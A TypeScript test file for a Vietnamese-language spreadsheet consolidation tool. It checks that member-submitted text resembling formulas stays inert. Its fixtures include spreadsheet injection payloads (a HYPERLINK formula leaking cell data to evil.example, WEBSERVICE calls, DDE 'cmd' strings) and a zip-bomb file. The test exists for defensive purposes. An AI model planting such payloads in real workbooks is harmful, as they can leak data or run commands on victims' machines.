import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { demoWardPlan } from '../../src/demo/demoPlan';
import { ALL_CAPABILITIES } from '../../src/hosts/excel/capabilities';
import { consolidate } from '../../src/app/consolidate';
import { applyWorkbookSpec } from '../../src/hosts/excel/writeWorkbookSpec';
import { loadWorkbook } from '../../src/files/readWorkbook';
import { writeWorkbook } from '../../src/hosts/xlsx/writeWorkbook';
import { SHEET, TABLE } from '../../src/sheets/names';
import { planWorkbook } from '../../src/sheets/planWorkbook';
import { FORM_COLUMNS, FORM_FIRST_LABEL_ROW, FORM_HEADER_ROW, reportFormWorkbook } from '../../src/sheets/reportForm';
import { cli } from '../support/cli';
import { FakeContext, SheetState } from '../support/excelFake';
import { formSheetState } from '../support/formSheets';
import { inExcel } from '../support/inExcel';
import { buildZip, workbookParts } from '../support/zipBuilder';

/**
 * Issue #9, formula injection: what members type is data. Their text that looks like a formula, a
 * DDE call or a signed expression reaches the consolidated workbook as inert text, through the CLI
 * (.xlsx host) and through the Excel host; their real formulas arrive as the values they computed.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
  '=WEBSERVICE("http://evil.example/x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const MARKERS = /evil\.example|cmd\||WEBSERVICE/i;
// Time limits: the two tests took 35 s and 25 s on a loaded 2-core machine (load average 10–12); over 3× that.
const ward = demoWardPlan();
const col = (key: string) => FORM_COLUMNS.findIndex((c) => c.key === key) + 1;

/** A unionplan form for `unit`, then typed into by a hostile or careless member. */
async function hostileForm(unit: number, edit: (ws: ExcelJS.Worksheet) => void): Promise<Uint8Array> {
  const wb = await loadWorkbook(await writeWorkbook(reportFormWorkbook(ward, ward.units[unit], new Map())));
  const ws = wb.getWorksheet(SHEET.form)!;
  edit(ws);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

async function corpus(): Promise<{ name: string; data: Uint8Array }[]> {
  const firstRow = FORM_HEADER_ROW + 2;
  return [
    // Text everywhere a member types: results, notes, the unit's name.
    { name: 'DN01.xlsx', data: await hostileForm(0, (ws) => {
      HOSTILE.forEach((h, i) => {
        ws.getCell(firstRow + i, col('result')).value = h;
        ws.getCell(firstRow + i, col('note')).value = h;
      });
      ws.getCell(FORM_FIRST_LABEL_ROW + 2, 2).value = HOSTILE[0];
    }) },
    // A unit code that is a formula: an unknown unit, named in a finding.
    { name: 'la.xlsx', data: await hostileForm(1, (ws) => {
      ws.getCell(FORM_FIRST_LABEL_ROW + 1, 2).value = HOSTILE[2];
      ws.getCell(firstRow, col('result')).value = 4;
    }) },
    // Files that are not what they claim: refused one by one, the others still count.
    { name: 'ghi-chu.xlsx', data: new TextEncoder().encode('=HYPERLINK("http://evil.example")') },
    { name: 'mat-khau.xlsx', data: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]) },
    { name: 'bom-nen.xlsx', data: buildZip([...workbookParts('').slice(0, 4), { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(210 * 1024 * 1024, 0x20), claimedSize: 512 }]) },
    // Real formulas in the member's file: only the values they computed count.
    { name: 'DN03.xlsx', data: await hostileForm(2, (ws) => {
      ws.getCell(firstRow, col('result')).value = { formula: 'WEBSERVICE("http://evil.example/n")', result: 5 };
      ws.getCell(firstRow, col('note')).value = { formula: 'HYPERLINK("http://evil.example","x")', result: 'x' };
    }) },
  ];
}

/** Every formula and every string of an .xlsx as written in its XML. */
async function xlsxContent(bytes: Uint8Array): Promise<{ formulas: string[]; strings: string[] }> {
  const zip = await JSZip.loadAsync(bytes);
  const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
  const formulas: string[] = [];
  const strings: string[] = [];
  for (const [name, file] of Object.entries(zip.files)) {
    if (!/^xl\/(worksheets\/[^/]+|sharedStrings)\.xml$/.test(name)) continue;
    const xml = await file.async('string');
    for (const m of xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)) formulas.push(unescape(m[1]));
    for (const m of xml.matchAll(/<t[^>]*>([^<]*)<\/t>/g)) strings.push(unescape(m[1]));
  }
  return { formulas, strings };
}

it('CLI: member text reaches Tổng hợp, Theo đơn vị and Kiểm tra as text, never as a formula', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'unionplan-inject-'));
  const plan = join(dir, 'ke-hoach.xlsx');
  writeFileSync(plan, await writeWorkbook(planWorkbook(ward)));
  mkdirSync(join(dir, 'bao-cao'));
  for (const f of await corpus()) writeFileSync(join(dir, 'bao-cao', f.name), f.data);
  const out = join(dir, 'tong-hop.xlsx');
  const r = await cli('consolidate', '--plan', plan, join(dir, 'bao-cao'), '-o', out);
  expect(r.code).toBe(0);
  const { formulas, strings } = await xlsxContent(readFileSync(out));
  expect(formulas.filter((f) => MARKERS.test(f))).toEqual([]);
  // The hostile text that surfaces (findings quote what was typed) is there whole, as a string.
  const surfaced = strings.filter((s) => MARKERS.test(s));
  expect(surfaced.length).toBeGreaterThan(0);
  for (const s of surfaced) expect(HOSTILE.some((h) => s.includes(h))).toBe(true);
  // The member's WEBSERVICE computed 5: that value, not the call, is DN03's result; the broken files are findings.
  const json = JSON.parse((await cli('consolidate', '--plan', plan, join(dir, 'bao-cao'), '--json')).out);
  expect(ward.targets[0].rule).toBe('sum');
  // DN01's typed "formula" is not a number and is left out; la.xlsx's unit is unknown: only DN03's 5 counts.
  expect(json.targets.find((t: { code: string }) => t.code === ward.targets[0].code).numerator).toBe(5);
  expect(json.findings.filter((f: { code: string }) => f.code === 'report-unreadable').map((f: { sheet: string }) => f.sheet).sort()).toEqual(['bom-nen.xlsx', 'ghi-chu.xlsx', 'mat-khau.xlsx']);
}, 120_000);

it('Excel host: the same corpus, dropped and inserted as sheets, writes no formula from member data and changes no member or user cell', async () => {
  const fake = new FakeContext();
  await applyWorkbookSpec(fake as unknown as Excel.RequestContext, planWorkbook(ward), { caps: ALL_CAPABILITIES, replace: false });
  const inserted = formSheetState(ward, ward.units[3], 'BC TH01', TABLE.form, Object.fromEntries(ward.targets.map((t, i) => [t.code, { result: HOSTILE[i % HOSTILE.length] }])));
  fake.state.sheets.push(inserted);
  const mine = new SheetState('Ghi chép của tôi');
  mine.cells.set('0,0', { formula: '=SUM(1,2)' });
  fake.state.sheets.push(mine);
  const untouched = [inserted, mine].map((s) => JSON.stringify([...s.cells]));

  const memberFiles = await corpus();
  const dropped = await inExcel(fake, (wb) => consolidate(wb, { memberFiles }));
  expect(dropped.findings.filter((f) => f.code === 'report-unreadable').map((f) => f.sheet).sort()).toEqual(['bom-nen.xlsx', 'ghi-chu.xlsx', 'mat-khau.xlsx']);

  const written = [SHEET.summary, SHEET.byUnit].map((n) => fake.state.sheet(n)!);
  let surfaced = 0;
  for (const s of written) {
    for (const [key, cell] of s.cells) {
      const v = cell.formula;
      if (typeof v !== 'string') continue;
      if (v.startsWith('=')) expect([s.name, key, v]).toEqual([s.name, key, expect.not.stringMatching(MARKERS)]);
      if (MARKERS.test(v)) {
        surfaced++;
        expect(v.startsWith("'")).toBe(true);
      }
    }
  }
  expect(surfaced).toBeGreaterThan(0);
  expect([inserted, mine].map((s) => JSON.stringify([...s.cells]))).toEqual(untouched);
}, 120_000);
